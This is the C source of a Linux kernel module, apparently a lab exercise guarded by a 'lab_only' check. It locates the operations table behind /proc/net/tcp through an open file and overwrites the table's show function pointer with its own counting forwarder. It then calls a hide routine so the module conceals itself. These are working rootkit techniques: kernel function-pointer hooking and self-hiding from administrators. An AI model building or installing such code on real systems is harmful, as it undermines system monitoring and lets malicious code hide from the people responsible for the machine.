/* Replaces the function that prints a line of /proc/net/tcp by one that counts and forwards, and hides itself. */
#include "guard.h"
#include "hide.h"
#include "write.h"
#include <linux/seq_file.h>

static unsigned long count;
module_param(count, ulong, 0400);
MODULE_PARM_DESC(count, "lines that came through here");
static unsigned long page;
module_param(page, ulong, 0400);
MODULE_PARM_DESC(page, "the page of memory that the lines come through");

static struct seq_operations *operations;
static int (*before)(struct seq_file *file, void *item);

static int forward(struct seq_file *file, void *item)
{
	count++;
	return before(file, item);
}

/* No symbol is needed: an open file leads to its operations. */
static struct seq_operations *of_file(const char *name)
{
	struct file *file = filp_open(name, O_RDONLY, 0);
	const struct seq_operations *found;

	if (IS_ERR(file))
		return NULL;
	found = ((struct seq_file *)file->private_data)->op;
	filp_close(file, NULL);
	return (struct seq_operations *)found;
}

static int __init start(void)
{
	int error = lab_only();

	if (error)
		return error;
	operations = of_file("/proc/net/tcp");
	if (!operations)
		return -ENOENT;
	before = operations->show;
	page = (unsigned long)forward & PAGE_MASK;
	error = put_pointer(&operations->show, forward);
	if (!error)
		hide();
	return error;
}

static void __exit stop(void)
{
	put_pointer(&operations->show, before);
}

module_init(start);
module_exit(stop);
